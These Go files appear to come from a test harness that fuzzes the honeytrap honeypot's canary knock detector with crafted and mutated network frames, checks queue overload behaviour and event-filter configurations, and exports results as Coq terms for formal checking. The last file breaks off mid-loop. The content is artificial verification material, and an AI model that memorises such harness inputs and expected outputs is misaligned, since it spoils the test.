		// every data offset against segments of 20, 24 and 60 bytes
		for off := 0; off < 16; off++ {
			for _, n := range []int{0, 4, 40} {
				rest := make([]byte, n)
				for i := range rest {
					rest[i] = 1
				}
				g.add(withSum(ipFrame(macA, macB, g.sip(), loIP, 6, tcpSeg(40000, 82, off, 2, rest)), ok))
			}
		}
		// options: kinds, lengths 0/1/2/exact/overrun, end-of-list, kind as last byte
		for _, o := range [][]byte{
			{1, 1, 1, 1}, {0, 7, 7, 7}, {1, 1, 1, 2}, {2, 0, 0, 0}, {2, 1, 0, 0}, {2, 2, 1, 1}, {2, 4, 5, 0xb4},
			{2, 5, 0, 0}, {3, 3, 7, 1}, {3, 3, 7, 9}, {8, 10, 1, 2, 3, 4, 5, 6, 7, 8, 1, 1}, {8, 10, 1, 2, 3, 4, 5, 6}, {1, 1, 1, 0xfe},
			{4, 2, 4, 2}, {4, 2, 4, 3}, {255, 255, 0, 0},
		} {
			g.add(withSum(ipFrame(macA, macB, g.sip(), loIP, 6, tcpSeg(40000, 83, 5+len(o)/4, 2, o)), ok))
		}
	}
	return FInput{Class: "lengths-tcp", Frames: g.frames, Ticks: 3}
}

func arpFrame(n int) []byte {
	f := append(append(append([]byte{}, []byte{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}...), macB...), 0x08, 0x06)
	p := []byte{0, 1, 8, 0, 6, 4, 0, 1, 2, 0, 0, 0, 0, 0xb2, 11, 9, 9, 9, 0, 0, 0, 0, 0, 0, 127, 0, 0, 1, 0, 0}
	return append(f, p[:n]...)
}

func classAddr() FInput {
	g := &fgen{}
	dips := [][4]byte{{127, 0, 0, 1}, {127, 0, 0, 2}, {127, 255, 255, 255}, {10, 0, 0, 9}, {0, 0, 0, 0}, {255, 255, 255, 255}, {126, 0, 0, 1}, {127, 0, 1, 1}}
	for _, dip := range dips {
		g.add(ipFrame(macA, macB, g.sip(), dip, 17, udpSeg(40000, 7, []byte("scan"))))
		g.add(ipFrame(macA, macB, g.sip(), dip, 1, icmpSeg(8, 8)))
		g.add(withSum(ipFrame(macA, macB, g.sip(), dip, 6, tcpSeg(40000, 80, 5, 2, nil)), true))
	}
	for _, et := range []uint16{0x0800, 0x0806, 0x86dd, 0x8100, 0, 0x0801, 0x0008} {
		f := ipFrame(macA, macB, g.sip(), loIP, 1, icmpSeg(8, 8))
		binary.BigEndian.PutUint16(f[12:], et)
		g.add(f)
	}
	for _, n := range []int{0, 27, 28, 29, 30} {
		g.add(arpFrame(n))
	}
	for _, proto := range []byte{0, 1, 2, 6, 17, 41, 47, 58, 255} {
		g.add(ipFrame(macA, macB, g.sip(), loIP, proto, append(udpSeg(40000, 7, []byte("scan")), make([]byte, 8)...)))
	}
	// one source, the same ports, against every sensor address (and the same with ICMP and TCP)
	s2 := g.sip()
	for _, dip := range sensorIPs {
		for _, dp := range []int{7, 9} {
			g.add(ipFrame(macA, macB, s2, dip, 17, udpSeg(40000, dp, []byte("scan"))))
		}
		g.add(ipFrame(macA, macB, s2, dip, 1, icmpSeg(8, 8)))
		g.add(withSum(ipFrame(macA, macB, s2, dip, 6, tcpSeg(40000, 80, 5, 2, nil)), true))
	}
	// the MAC addresses are part of the group: same source address, different hardware addresses
	s := g.sip()
	for _, m := range [][]byte{macA, macB, macC, macD, {0xff, 0xff, 0xff, 0xff, 0xff, 0xff}} {
		g.add(ipFrame(m, macB, s, loIP, 17, udpSeg(40000, 7, []byte("scan"))))
		g.add(ipFrame(macA, m, s, loIP, 17, udpSeg(40000, 8, []byte("scan"))))
	}
	// one 4-tuple: SYN, SYN again (new record each), RST (first record back to Listen), SYN|ACK
	// from other hardware addresses (knock only from Listen), reversed ports (loose lookup)
	s = g.sip()
	t := func(sm []byte, sp, dp int, fl byte) {
		g.add(withSum(ipFrame(macA, sm, s, loIP, 6, tcpSeg(sp, dp, 5, fl, nil)), true))
	}
	t(macB, 1000, 80, 2)
	t(macB, 1000, 80, 2)
	t(macC, 1000, 80, 18)   // SynReceived: no knock
	t(macB, 1000, 80, 4)    // -> Listen
	t(macC, 1000, 80, 18)   // knock tcp/80 for macC, -> SynReceived
	t(macD, 1000, 80, 18)   // no knock
	t(macB, 1000, 80, 20)   // RST|ACK -> Listen
	t(macD, 80, 1000, 18)   // reversed ports match the same record: knock tcp/1000 for macD
	t(macB, 1000, 80, 6)    // SYN|RST: new record, knock
	t(macB, 1000, 80, 4)    // first record: SynReceived -> Listen
	t(macB, 1000, 80, 4)    // Listen, RST: nothing
	t(macA, 1000, 1000, 18) // both ports equal one of the record's: knock tcp/1000 for macA
	// SYNs whose port pairs mirror each other / are equal: each is a new record and a knock
	s = g.sip()
	t(macB, 40000, 80, 2)
	t(macB, 80, 40000, 2)
	t(macB, 7000, 7000, 2)
	t(macB, 80, 7000, 2)
	t(macB, 40000, 40000, 2)
	return FInput{Class: "addresses-ethertype-arp-tcp-records", Frames: g.frames, Ticks: 3}
}

// classRandom: well-formed probes with 1..3 random byte changes outside the source address,
// or a random cut
func classRandom(r *hx.Rand, n int) FInput {
	g := &fgen{}
	for i := 0; i < n; i++ {
		s := g.sip()
		var f []byte
		switch r.Intn(3) {
		case 0:
			f = ipFrame(macA, macB, s, loIP, 17, udpSeg(r.PickInt([]int{53, 40000, 123, 7}), r.PickInt([]int{7, 9, 53, 65535, 5061}), r.Bytes(r.Intn(6))))
		case 1:
			f = ipFrame(macA, macB, s, loIP, 1, icmpSeg(8, r.PickInt([]int{8, 8, 9, 12, 64})))
		default:
			f = withSum(ipFrame(macA, macB, s, loIP, 6, tcpSeg(40000+r.Intn(9), r.PickInt([]int{80, 443, 22, 8080}), 5, 2, r.Bytes(r.Intn(5)))), r.Bool())
		}
		for k := r.Intn(4); k > 0; k-- {
			pos := r.Intn(len(f))
			if pos >= 26 && pos < 30 {
				continue
			}
			if f[23] == 6 && pos == 47 { // TCP flags stay a connection attempt or nothing
				f[pos] = byte(r.PickInt([]int{2, 0, 18, 3, 6, 10, 34, 16, 1}))
				continue
			}
			f[pos] = byte(r.U64())
		}
		if r.Chance(1, 6) {
			f = f[:r.Range(14, len(f))]
		}
		g.add(f)
	}
	return FInput{Class: "random-mutations", Frames: g.frames, Ticks: 3}
}

func frameInputs(r *hx.Rand, tier string) []FInput {
	ins := []FInput{classUDPPorts(), classTCPPortsFlags(), classLenUDPICMP(), classLenTCP(), classAddr(), classRandom(r, 150)}
	if tier != "quick" {
		for i := 0; i < 8; i++ {
			ins = append(ins, classRandom(r, 250))
		}
	}
	return ins
}

func runFrames(in FInput) (ob SObs, crash string) {
	rec := newRecorder()
	var arp canary.ARPCache
	v, err := canary.NewVerifCanary("lo", arp, canary.RouteTable{}, rec)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	v.StartKnockDetector(ctx)
	injectSem <- struct{}{}
	t0 := time.Now()
	var gw gapWatch
	finished := watchdog(120*time.Second, func() { crash = injectFrames(in, v, &gw) })
	marker := rec.scanLen()
	<-injectSem
	ob.BurstMs = time.Since(t0).Milliseconds()
	if !finished {
		return ob, "a handler blocked for 120 s"
	}
	if crash != "" {
		return ob, crash
	}
	if gw.stalled() {
		return ob, slowBurst
	}
	ob.Ticks, crash = collect(rec, 0, marker, in.Ticks, "")
	return ob, crash
}

func injectFrames(in FInput, v *canary.VerifCanary, gw *gapWatch) (crash string) {
	me := goid()
	for i, fr := range in.Frames {
		gw.step()
		func() {
			defer func() {
				if r := recover(); r != nil {
					crash = fmt.Sprintf("handler panic on frame %d: %v", i, r)
				}
			}()
			v.Inject([]byte(fr))
		}()
		if crash != "" {
			break
		}
	}
	// the UDP handler goroutines (created by this goroutine inside handleUDP) queue their knocks
	deadline := time.Now().Add(20 * time.Second)
	for crash == "" && liveHandlers(me) > 0 {
		gw.step()
		if time.Now().After(deadline) {
			crash = "udp handler goroutines still running after 20 s"
		}
		time.Sleep(25 * time.Millisecond)
	}
	gw.step()
	return crash
}

func runFramesRetry(in FInput) (ob SObs, crash string) {
	for attempt := 0; attempt < 4; attempt++ {
		ob, crash = runFrames(in)
		if crash != slowBurst {
			return ob, crash
		}
	}
	hx.Fatal("frame scenario %s took %d ms four times in a row", in.Class, ob.BurstMs)
	return
}

func frameCoq(id int, in FInput, ob SObs) string {
	var fs []string
	for _, f := range in.Frames {
		fs = append(fs, hx.CoqBytes(f))
	}
	var me []string
	for _, m := range meIPs {
		me = append(me, fmt.Sprint(binary.BigEndian.Uint32(m[:])))
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "(mkF %d %s\n   %s\n   %s)%%N", id, hx.CoqList(me, "N"), hx.CoqList(fs, "bytes"), coqTicks(ob))
	return sb.String()
}

const frameHeader = "From HT Require Import Common.Bytes C20.Model C20.Check.\nImport C20.Check.S C20.Check.F."
