// C20 harness, part "queue": bursts larger than the knock queue (100) while the detector is
// held inside events.Send of another group's report (a slow pusher), then released.
// Synchronisation is by conditions only: the gate event itself, counters of completed sends
// and the runtime's own view of which of OUR goroutines are blocked in a channel send.
package main

import (
	"bytes"
	"context"
	"fmt"
	"regexp"
	"runtime"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

const knockQueueCap = 100 // make(chan interface{}, 100) in canary_linux.go and the verif hook

type QInput struct {
	Class string  `json:"class"`
	Gate  []Probe `json:"gate"`
	Burst []Probe `json:"burst"`
	Ticks int     `json:"ticks"`
	Queue bool    `json:"queue"` // marks the input kind for replay
}

type QObs struct {
	Blocked int    `json:"blocked"` // senders blocked once every sender had run (detector held)
	Pre     []Ev   `json:"pre"`
	Ticks   [][]Ev `json:"ticks"`
	BurstMs int64  `json:"burst_ms"`
}

var goidRe = regexp.MustCompile(`^goroutine (\d+) `)

func goid() int {
	buf := make([]byte, 64)
	buf = buf[:runtime.Stack(buf, false)]
	m := goidRe.FindSubmatch(buf)
	if m == nil {
		hx.Fatal("cannot read goroutine id from %q", buf)
	}
	n, _ := strconv.Atoi(string(m[1]))
	return n
}

// blockedSenders counts the goroutines created by goroutine `parent` that are blocked in a
// channel send inside one of the canary's handlers.
func blockedSenders(parent int) int { return countHandlers(parent, true) }

// liveHandlers counts the handler goroutines created by `parent` that still exist.
func liveHandlers(parent int) int { return countHandlers(parent, false) }

var dumpMu sync.Mutex
var dumpBuf = make([]byte, 4<<20)

// (goroutines are recognised by their creator and by being inside package listener/canary, not by
// the names of unexported functions there: renaming handleTCP is a harmless rewrite)
func countHandlers(parent int, onlyChanSend bool) int {
	dumpMu.Lock() // one stop-the-world dump at a time
	defer dumpMu.Unlock()
	var buf []byte
	for {
		n := runtime.Stack(dumpBuf, true)
		if n < len(dumpBuf) {
			buf = dumpBuf[:n]
			break
		}
		dumpBuf = make([]byte, 2*len(dumpBuf))
	}
	tag := []byte(fmt.Sprintf(" in goroutine %d\n", parent))
	cnt := 0
	for _, g := range bytes.Split(buf, []byte("\n\n")) {
		nl := bytes.IndexByte(g, '\n')
		if nl < 0 {
			continue
		}
		if (!onlyChanSend || bytes.Contains(g[:nl], []byte("[chan send"))) && bytes.Contains(g, []byte("honeytrap/listener/canary.")) &&
			(bytes.Contains(g, tag) || bytes.HasSuffix(g, tag[:len(tag)-1])) {
			cnt++
		}
	}
	return cnt
}

func runQueue(in QInput) (ob QObs, crash string) {
	rec := newRecorder()
	rec.gate = make(chan struct{})
	rec.entered = make(chan struct{})
	var arp canary.ARPCache
	v, err := canary.NewVerifCanary("lo", arp, canary.RouteTable{}, rec)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	released := false
	defer func() {
		if !released {
			close(rec.gate)
		}
	}()
	v.StartKnockDetector(ctx)

	// 1. the gate probes; their report blocks the detector inside Send
	nudp := 0
	for _, p := range in.Gate {
		v.Inject(frame(p))
		if p.Proto == "udp" {
			nudp++
			if !rec.waitUDP(nudp, 3*time.Second) {
				return ob, "udp handler goroutine did not finish within 3 s"
			}
		}
	}
	select {
	case <-rec.entered:
	case <-time.After(30 * time.Second):
		return ob, "the gate group was not reported within 30 s"
	}

	// 2. the burst, every probe from its own goroutine created HERE
	me := goid()
	var done int64
	t0 := time.Now()
	budp := 0
	for _, p := range in.Burst {
		fr := frame(p)
		if p.Proto == "udp" {
			budp++
			v.Inject(fr) // returns at once: handleUDP queues the knock from a goroutine of its own
			continue
		}
		go func() {
			defer func() { recover(); atomic.AddInt64(&done, 1) }()
			v.Inject(fr)
		}()
	}
	n := len(in.Burst)
	completed := func() int { return int(atomic.LoadInt64(&done)) + rec.udpCount() - nudp }
	deadline := time.Now().Add(20 * time.Second)
	prevC := -1
	for {
		c := completed()
		if c == prevC { // no progress since the last look: are the others blocked?
			b := blockedSenders(me)
			if c+b == n && completed() == c {
				ob.Blocked = b
				break
			}
		}
		prevC = c
		if time.Now().After(deadline) {
			return ob, fmt.Sprintf("after 30 s %d of %d senders completed, %d blocked", c, n, blockedSenders(me))
		}
		time.Sleep(10 * time.Millisecond)
	}
	// 3. release the detector; every sender must complete
	rec.mu.Lock()
	for _, e := range rec.scan {
		ob.Pre = append(ob.Pre, e.ev)
	}
	rec.scan = nil
	rec.mu.Unlock()
	close(rec.gate)
	released = true
	for completed() < n {
		if time.Now().After(deadline) {
			return ob, fmt.Sprintf("after the release only %d of %d senders completed", completed(), n)
		}
		time.Sleep(time.Millisecond)
	}
	_ = budp
	ob.BurstMs = time.Since(t0).Milliseconds()
	ob.Ticks, crash = collect(rec, 0, 0, in.Ticks, "")
	return ob, crash
}

func runQueueRetry(in QInput) (ob QObs, crash string) {
	for attempt := 0; attempt < 4; attempt++ {
		ob, crash = runQueue(in)
		if crash != slowBurst {
			return ob, crash
		}
	}
	hx.Fatal("queue scenario %s: burst took %d ms four times in a row", in.Class, ob.BurstMs)
	return
}

func queueInputs(r *hx.Rand, tier string) []QInput {
	gate := []Probe{{Src: 0, Proto: "udp", Port: 4242, Dst: 0}}
	var ins []QInput
	mk := func(class string, n int, gen func(i int) Probe) {
		var ps []Probe
		for i := 0; i < n; i++ {
			ps = append(ps, gen(i))
		}
		ins = append(ins, QInput{Class: class, Gate: gate, Burst: ps, Ticks: 2, Queue: true})
	}
	sizes := []int{100, 101, 150, 300}
	if tier != "quick" {
		sizes = []int{1, 99, 100, 101, 102, 150, 200, 300}
	}
	for _, n := range sizes {
		n := n
		// UDP: distinct ports from one source (a lost knock is a missing port)
		mk(fmt.Sprintf("udp-%d", n), n, func(i int) Probe { return Probe{Src: 1, Proto: "udp", Port: 10000 + i, Dst: i % 2} })
		// TCP SYNs: distinct ports
		mk(fmt.Sprintf("tcp-%d", n), n, func(i int) Probe {
			return Probe{Src: 2, Proto: "tcp", Port: 1000 + i, Flags: 2, SPort: 20000 + i, Dst: (i / 2) % 3}
		})
		// ICMP: one echo from each of n sources (a lost knock is a missing report)
		mk(fmt.Sprintf("icmp-%d", n), n, func(i int) Probe { return Probe{Src: 10 + i, Proto: "icmp", Port: 8, PLen: 1, Dst: i % 3} })
	}
	// all three protocols mixed, from three sources
	mk("mixed-300", 300, func(i int) Probe {
		switch i % 3 {
		case 0:
			return Probe{Src: 1, Proto: "udp", Port: 10000 + i, SPort: 53, Dst: 1}
		case 1:
			return Probe{Src: 2, Proto: "tcp", Port: 1000 + i, Flags: 2, SPort: 20000 + i, Dst: 2}
		}
		return Probe{Src: 10 + i, Proto: "icmp", Port: 8, Dst: 0}
	})
	// random mixes
	nr := 2
	if tier != "quick" {
		nr = 10
	}
	for k := 0; k < nr; k++ {
		n := r.Range(101, 300)
		sport := 0
		mk(fmt.Sprintf("random-%d", n), n, func(i int) Probe {
			p := genProbe(r, 1+r.Intn(3), &sport)
			if p.Proto == "tcp" {
				p.SPort = 20000 + i // every SYN its own record
			}
			p.Dst = r.Intn(len(allSensorIPs))
			return p
		})
	}
	return ins
}

func coqEvs(es []Ev) string {
	return coqTicks(SObs{Ticks: [][]Ev{es}})
}

func queueCoq(id int, in QInput, ob QObs) string {
	pl := func(ps []Probe) string {
		var out []string
		for _, p := range ps {
			out = append(out, coqProbe(p))
		}
		return hx.CoqList(out, "probe")
	}
	var pre []string
	for _, e := range ob.Pre {
		pre = append(pre, coqEv(e))
	}
	return fmt.Sprintf("(mkQC %d %d %s\n   %s\n   %d %s\n   %s)%%N", id, knockQueueCap, pl(in.Gate), pl(in.Burst),
		ob.Blocked, hx.CoqList(pre, "ev"), coqTicks(SObs{Ticks: ob.Ticks}))
}

const queueHeader = "From HT Require Import Common.Bytes C20.Model C20.Check.\nImport C20.Check.S C20.Check.Q."
