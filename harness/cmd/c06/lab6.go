// Server start-up for the C06 harness: the real server.New + Run on a generated
// configuration, like lab.Start, but with the sensor token option (server.WithToken reads
// the file "token" below the data directory, which is the working directory when no data
// directory option is given - no badger database is opened) and with a capture channel
// that projects every event AT DELIVERY TIME (the event's key-value store is shared and
// mutated by later subscribers, so keeping the event and reading it later would not show
// what the channel was given).
package main

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/listener"
	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/server"
)

// Seen is one delivery as the backend channel saw it.
type Seen struct {
	Chan string
	ID   int
	Tok  FV
}

type lab6 struct {
	gen     int
	mu      sync.Mutex
	seen    []Seen
	noID    int // events without an integer "id" (heartbeat etc.): ignored, counted
	bus     pushers.Channel
	started chan struct{}
	done    chan struct{}
	once    sync.Once
	cancel  context.CancelFunc
}

var (
	curMu sync.Mutex
	cur   *lab6
	gen   int
)

func current() *lab6 { curMu.Lock(); defer curMu.Unlock(); return cur }

// projection of one field of the event store
func fieldOf(e event.Event, key string) FV {
	m := event.ToMap(e)
	v, ok := m[key]
	if !ok {
		return FV{Kind: "missing"}
	}
	if s, ok := v.(string); ok {
		return FV{Kind: "str", S: s}
	}
	return FV{Kind: "other"}
}

type recListener struct{ lab *lab6 }

func (l *recListener) AddAddress(a net.Addr)        {}
func (l *recListener) SetChannel(c pushers.Channel) { l.lab.bus = c }
func (l *recListener) Start(ctx context.Context) error {
	l.lab.once.Do(func() { close(l.lab.started) })
	return nil
}
func (l *recListener) Accept() (net.Conn, error) { select {} }

type capChannel struct {
	Name  string `toml:"name"`
	Delay int    `toml:"delay"` // microseconds slept per delivery (a slow backend: concurrent Sends overlap)
	lab   *lab6
}

func (c *capChannel) Send(e event.Event) {
	l := current()
	if l == nil || l != c.lab {
		return // a server of an earlier case (its heartbeat goroutine lives on)
	}
	if c.Delay > 0 {
		time.Sleep(time.Duration(c.Delay) * time.Microsecond)
	}
	m := event.ToMap(e)
	id, ok := m["id"].(int)
	l.mu.Lock()
	defer l.mu.Unlock()
	if !ok {
		l.noID++
		return
	}
	l.seen = append(l.seen, Seen{Chan: c.Name, ID: id, Tok: fieldOf(e, "token")})
}

func init() {
	listener.Register("verif-rec6", func(opts ...func(listener.Listener) error) (listener.Listener, error) {
		l := &recListener{lab: current()}
		for _, o := range opts {
			o(l)
		}
		return l, nil
	})
	pushers.Register("verif-cap6", func(opts ...func(pushers.Channel) error) (pushers.Channel, error) {
		c := &capChannel{lab: current()}
		for _, o := range opts {
			if err := o(c); err != nil {
				return nil, err
			}
		}
		return c, nil
	})
}

// start boots a server on the TOML text; token == "" : no token option (the sensor token
// is then the empty string), otherwise the token file is written first.
func start(tomlText, scratch, token string) (*lab6, error) {
	l := &lab6{started: make(chan struct{}), done: make(chan struct{})}
	curMu.Lock()
	gen++
	l.gen = gen
	cur = l
	curMu.Unlock()
	config.Default = config.Config{}
	p := filepath.Join(scratch, fmt.Sprintf("lab6-%d.toml", l.gen))
	if err := os.WriteFile(p, []byte(tomlText), 0o644); err != nil {
		return nil, err
	}
	defer os.Remove(p)
	opt, err := server.WithConfig(p)
	if err != nil {
		return nil, err
	}
	opts := []server.OptionFn{opt}
	if token != "" {
		// WithToken: path.Join(dataDir, "token") with dataDir "" = ./token
		if err := os.WriteFile("token", []byte(token), 0o600); err != nil {
			return nil, err
		}
		defer os.Remove("token")
		opts = append(opts, server.WithToken())
	}
	srv, err := server.New(opts...)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithCancel(context.Background())
	l.cancel = cancel
	go func() {
		defer close(l.done)
		srv.Run(ctx)
	}()
	select {
	case <-l.started:
	case <-l.done:
	case <-time.After(10 * time.Second):
		return l, fmt.Errorf("server did not start")
	}
	return l, nil
}

func (l *lab6) isStarted() bool {
	select {
	case <-l.started:
		return true
	default:
		return false
	}
}

func (l *lab6) stop() {
	l.cancel()
	select {
	case <-l.done:
	case <-time.After(5 * time.Second):
	}
	curMu.Lock()
	if cur == l {
		cur = nil
	}
	curMu.Unlock()
}

func (l *lab6) snapshot() []Seen {
	l.mu.Lock()
	defer l.mu.Unlock()
	return append([]Seen(nil), l.seen...)
}
