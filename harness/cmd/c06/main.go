// C06 harness: the real server (server.New + Run) on generated [channel.*] / [[filter]]
// configurations; generated events are sent on the event bus the listener is handed and
// every capture channel records, in order, (event id, "token" field) at delivery time.
// A second kind of case validates the Coq regex matcher against Go's regexp.
package main

import (
	"fmt"
	"os"
	"regexp"
	"sort"
	"strings"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"verif/harness/hx"
)

// ---------------- regular expression trees ----------------

type Re struct {
	Op string `json:"op"` // eps chr any bol eol cat alt star
	C  int    `json:"c,omitempty"`
	A  *Re    `json:"a,omitempty"`
	B  *Re    `json:"b,omitempty"`
}

func chr(c byte) *Re   { return &Re{Op: "chr", C: int(c)} }
func cat(a, b *Re) *Re { return &Re{Op: "cat", A: a, B: b} }
func alt(a, b *Re) *Re { return &Re{Op: "alt", A: a, B: b} }
func star(a *Re) *Re   { return &Re{Op: "star", A: a} }
func lit(s string) *Re {
	if s == "" {
		return &Re{Op: "eps"}
	}
	r := chr(s[0])
	for i := 1; i < len(s); i++ {
		r = cat(r, chr(s[i]))
	}
	return r
}
func seq(rs ...*Re) *Re {
	r := rs[0]
	for _, x := range rs[1:] {
		r = cat(r, x)
	}
	return r
}

var (
	anyR = &Re{Op: "any"}
	bolR = &Re{Op: "bol"}
	eolR = &Re{Op: "eol"}
	epsR = &Re{Op: "eps"}
)

const metas = `\.+*?()|[]{}^$`

// show mirrors Model.show (the Coq side re-computes it and compares).
func show(lvl int, r *Re) string {
	par := func(s string, need bool) string {
		if need {
			return "(" + s + ")"
		}
		return s
	}
	switch r.Op {
	case "eps":
		return "()"
	case "chr":
		if strings.IndexByte(metas, byte(r.C)) >= 0 {
			return `\` + string([]byte{byte(r.C)})
		}
		return string([]byte{byte(r.C)})
	case "any":
		return "."
	case "bol":
		return par("^", lvl >= 2)
	case "eol":
		return par("$", lvl >= 2)
	case "cat":
		return par(show(1, r.A)+show(1, r.B), lvl >= 2)
	case "alt":
		return par(show(0, r.A)+"|"+show(0, r.B), lvl >= 1)
	case "star":
		return par(show(2, r.A)+"*", lvl >= 2)
	}
	hx.Fatal("bad regex op %q", r.Op)
	return ""
}

func showTop(r *Re) string {
	if r.Op == "eps" {
		return ""
	}
	return show(0, r)
}

func coqRe(r *Re) string {
	switch r.Op {
	case "eps":
		return "Eps"
	case "chr":
		return fmt.Sprintf("(Chr %d%%N)", r.C)
	case "any":
		return "Any"
	case "bol":
		return "Bol"
	case "eol":
		return "Eol"
	case "cat":
		return "(Cat " + coqRe(r.A) + " " + coqRe(r.B) + ")"
	case "alt":
		return "(Alt " + coqRe(r.A) + " " + coqRe(r.B) + ")"
	case "star":
		return "(Star " + coqRe(r.A) + ")"
	}
	hx.Fatal("bad regex op %q", r.Op)
	return ""
}

func coqRes(rs []*Re) string {
	var es []string
	for _, r := range rs {
		es = append(es, coqRe(r))
	}
	return hx.CoqList(es, "re")
}

// expressions an operator would write, over the values the events use
func rePool() []*Re {
	return []*Re{
		lit("ssh"),                                       // ssh          (substring!)
		seq(bolR, lit("ssh"), eolR),                      // ^ssh$
		alt(lit("ssh"), lit("telnet")),                   // ssh|telnet
		seq(bolR, alt(lit("ssh"), lit("telnet")), eolR),  // ^(ssh|telnet)$
		cat(anyR, star(anyR)),                            // ..*   (non-empty, no newline first)
		star(anyR),                                       // .*
		epsR,                                             // ""    (matches everything)
		cat(bolR, eolR),                                  // ^$    (only the empty / missing / non-string value)
		cat(bolR, lit("heart")),                          // ^heart
		cat(lit("net"), eolR),                            // net$
		seq(chr('s'), anyR, chr('h')),                    // s.h
		cat(bolR, star(alt(chr('a'), chr('b')))),         // ^(a|b)*
		seq(bolR, star(lit("ab")), eolR),                 // ^(ab)*$
		alt(bolR, lit("x")),                              // ^|x
		alt(cat(bolR, lit("tel")), cat(lit("sh"), eolR)), // ^tel|sh$
		lit("a.b"),                                       // a\.b
		cat(lit("ssh"), bolR),                            // ssh^   (never matches)
		cat(eolR, lit("a")),                              // $a     (never matches)
		seq(bolR, star(anyR), eolR),                      // ^.*$   (no newline)
		star(star(chr('a'))),                             // (a*)*
		cat(star(bolR), chr('b')),                        // (^)*b
		alt(epsR, chr('q')),                              // ()|q
	}
}

const reAlpha = "shtelnab-."

func genRe(r *hx.Rand, depth int) *Re {
	if depth <= 0 || r.Chance(1, 4) {
		switch r.Intn(10) {
		case 0:
			return anyR
		case 1:
			return bolR
		case 2:
			return eolR
		case 3:
			if r.Chance(1, 3) {
				return epsR
			}
		}
		return chr(reAlpha[r.Intn(len(reAlpha))])
	}
	switch r.Intn(7) {
	case 0, 1, 2:
		return cat(genRe(r, depth-1), genRe(r, depth-1))
	case 3, 4:
		return alt(genRe(r, depth-1), genRe(r, depth-1))
	case 5:
		return star(genRe(r, depth-1))
	}
	return lit(r.PickStr(valuePool))
}

var valuePool = []string{"ssh", "telnet", "sshd", "xssh", "", "heartbeat", "net", "ab", "abab", "aba", "a.b", "a-b", "sh", "tel", "s\nh", "\n", "b", "x", "ssh\n"}

const subjAlpha = "shtelnab-.\nx"

func genValue(r *hx.Rand) string {
	if r.Chance(2, 3) {
		return r.PickStr(valuePool)
	}
	return string(r.BytesFrom(r.Range(0, 7), []byte(subjAlpha)))
}

// ---------------- events and configurations ----------------

type FV struct {
	Kind string `json:"kind"` // missing | str | int | bytes | nil | bool | other
	S    string `json:"s,omitempty"`
}

func coqFV(v FV) string {
	switch v.Kind {
	case "missing":
		return "FMissing"
	case "str":
		return "(FStr " + hx.CoqStr(v.S) + ")"
	}
	return "FOther"
}

type Ev struct {
	ID  int `json:"id"`
	Cat FV  `json:"category"`
	Svc FV  `json:"service"`
	Tok FV  `json:"token"`
}

type Def struct {
	Name string `json:"name"`
	Kind string `json:"kind"` // ok | unknown-type | no-type
}

type Flt struct {
	Channels []string `json:"channel"`
	HasSvcs  bool     `json:"has_services"` // false: key absent; true with empty list: services=[]
	Svcs     []*Re    `json:"services"`
	HasCats  bool     `json:"has_categories"`
	Cats     []*Re    `json:"categories"`
}

type BusInput struct {
	Defs    []Def  `json:"channels"`
	Filters []Flt  `json:"filters"`
	Token   string `json:"token"` // "" = server started without the token option
	Events  []Ev   `json:"events"`
	Alone   string `json:"alone"`              // channel observed a second time under the restricted configuration
	Slow    string `json:"slow,omitempty"`     // capture channel that sleeps DelayUS microseconds per delivery
	DelayUS int    `json:"delay_us,omitempty"` // (concurrent-sender cases)
}

// ConcInput: K senders, each a goroutine sending its own stream on the bus of one running
// server, all released at the same moment; event ids are unique over all streams.
type ConcInput struct {
	Cfg     BusInput `json:"cfg"` // Events unused
	Streams [][]Ev   `json:"streams"`
}

type ConcObs struct {
	Chans map[string][]SeenObs `json:"channels"` // per capture channel, arrival order
}

type SeenObs struct {
	ID  int `json:"id"`
	Tok FV  `json:"token"`
}

type BusObs struct {
	Chans map[string][]SeenObs `json:"channels"`
	Post  []FV                 `json:"post"`
	Alone []SeenObs            `json:"alone,omitempty"`
	NoID  int                  `json:"events_without_id"`
}

func mkOption(key string, v FV) event.Option {
	switch v.Kind {
	case "missing":
		return nil
	case "str":
		return event.Custom(key, v.S)
	case "int":
		return event.Custom(key, 42)
	case "bytes":
		return event.Custom(key, []byte("ssh"))
	case "nil":
		return event.Custom(key, nil)
	case "bool":
		return event.Custom(key, true)
	}
	return event.Custom(key, struct{ X string }{"ssh"})
}

func mkEvent(e Ev) event.Event {
	opts := []event.Option{event.Custom("id", e.ID)}
	switch e.Cat.Kind {
	case "str":
		opts = append(opts, event.Category(e.Cat.S))
	default:
		opts = append(opts, mkOption("category", e.Cat))
	}
	switch e.Svc.Kind {
	case "str":
		opts = append(opts, event.Service(e.Svc.S))
	default:
		opts = append(opts, mkOption("service", e.Svc))
	}
	opts = append(opts, mkOption("token", e.Tok)) // nil options are skipped by event.New
	return event.New(opts...)
}

func tomlList(xs []string) string {
	var q []string
	for _, x := range xs {
		q = append(q, hx.TomlStr(x))
	}
	return "[" + strings.Join(q, ", ") + "]"
}

func exprs(rs []*Re) []string {
	var out []string
	for _, r := range rs {
		out = append(out, showTop(r))
	}
	return out
}

func mkToml(in BusInput) string {
	var sb strings.Builder
	sb.WriteString("[listener]\ntype=\"verif-rec6\"\n\n")
	for _, d := range in.Defs {
		fmt.Fprintf(&sb, "[channel.%s]\n", d.Name)
		switch d.Kind {
		case "ok":
			sb.WriteString("type=\"verif-cap6\"\n")
		case "unknown-type":
			sb.WriteString("type=\"verif-no-such-channel-type\"\n")
		}
		if d.Name == in.Slow && in.DelayUS > 0 {
			fmt.Fprintf(&sb, "delay=%d\n", in.DelayUS)
		}
		fmt.Fprintf(&sb, "name=%s\n\n", hx.TomlStr(d.Name))
	}
	for _, f := range in.Filters {
